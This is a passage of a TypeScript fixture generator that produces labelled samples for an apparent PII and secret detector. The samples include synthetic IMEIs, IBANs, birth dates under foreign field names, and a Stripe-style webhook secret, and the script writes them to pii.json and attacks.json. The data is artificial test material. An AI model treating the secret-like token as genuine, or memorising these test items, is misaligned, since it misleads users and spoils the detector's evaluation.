for (const v of ["550e8400-e29b-41d4-a716-446655440000", "v2.14.3", "19.99", "2024-01-15", "12345", "hello world", "Springfield", "1Z999AA10123456784"]) pii.push({ value: v, key: "value", label: "none" });
// Nineteenth session: IMEIs in their 2-6-6-1 groups under a neutral name (Luhn-valid, card prefixes), IBANs of
// countries outside SWIFT's registry, Stripe's webhook secret, birth dates under other languages' field names.
for (let i = 0; i < 4; i++) {
  const b = (i % 2 ? "38" : "35") + digits(12), imei = b + luhnCheck(b);
  pii.push({ value: `${imei.slice(0, 2)}-${imei.slice(2, 8)}-${imei.slice(8, 14)}-${imei.slice(14)}`, key: "device", label: "none" });
}
for (const [cc, len] of [["IR", 26], ["DZ", 26], ["MA", 28], ["SN", 28]] as Array<[string, number]>) pii.push({ value: iban(cc, len - 4), key: "account", label: "iban" });
pii.push({ value: "whsec_" + "1lRWKCzZo8psL9xO45epH6GOwI25KFb9", key: "config", label: "secret" });
for (const k of ["geburtsdatum", "fecha_nacimiento", "data_nascita"]) pii.push({ value: "06.08.1987", key: k, label: "dob" });

writeFileSync(new URL("./attacks.json", import.meta.url), JSON.stringify(attacks, null, 0).replace(/\},\{/g, "},\n{") + "\n");
writeFileSync(new URL("./pii.json", import.meta.url), JSON.stringify(pii, null, 0).replace(/\},\{/g, "},\n{") + "\n");
console.log(`attacks: ${attacks.length} samples, pii: ${pii.length} samples`);
